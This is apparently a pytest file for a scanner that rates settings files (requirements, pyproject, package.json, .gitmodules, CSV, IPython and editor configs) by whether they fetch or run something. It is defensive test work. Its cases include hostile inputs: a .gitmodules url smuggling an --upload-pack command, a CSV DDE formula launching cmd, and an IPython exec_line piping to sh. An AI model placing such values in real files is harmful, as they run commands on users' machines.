"""Settings of package managers, git, editors and IPython, and tables of text, that have something fetched or run."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect


@pytest.mark.parametrize(
    ("name", "text", "high"),
    [
        ("requirements.txt", "-r https://u.example/r.txt\n", True),
        ("requirements.txt", "-r https://raw.githubusercontent.com/a/b/main/r.txt\n", False),
        ("requirements.txt", "-r dev.txt\n", False),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://pypi.u.example/simple'\n", True),
        ("pyproject.toml", "[[tool.uv.index]]\nurl = 'https://download.pytorch.org/whl/cu124'\n", False),
        ("pyproject.toml", "[project.urls]\nurl = 'https://u.example/simple'\n", False),
        ("package.json", json.dumps({"dependencies": {"a": "https://u.example/a.tgz"}}), True),
        ("package.json", json.dumps({"dependencies": {"a": "^1.0.0"}, "homepage": "https://u.example/a.tgz"}), False),
        (".gitmodules", '[submodule "a"]\n\tpath = a\n\turl = --upload-pack=touch${IFS}/tmp/x\n', True),
        (".gitmodules", '[submodule "a"]\n\tpath = a\n\turl = https://github.com/a/b.git\n', False),
        ("data.csv", "a,b\n=cmd|'/c calc'!A0,1\n", True),
        ("data.csv", "a,b\n=SUM(A1:A2),-1\n", False),
        ("ipython_config.py", "c = get_config()\nc.App.exec_lines = [\"import os; os.system('id | sh')\"]\n", True),
        ("ipython_config.py", "c = get_config()\nc.App.exec_lines = ['import numpy as np']\n", False),
        (".continue/config.yaml", "models:\n  - apiBase: https://u.example/v1\n", True),
        (".continue/config.yaml", "models:\n  - apiBase: http://localhost:11434\n", False),
    ],
)
def test_settings(name, text, high):
    worst = max((found.severity.rank for found in inspect(text.encode(), name).findings), default=-1)
    assert (worst >= Severity.HIGH.rank) is high
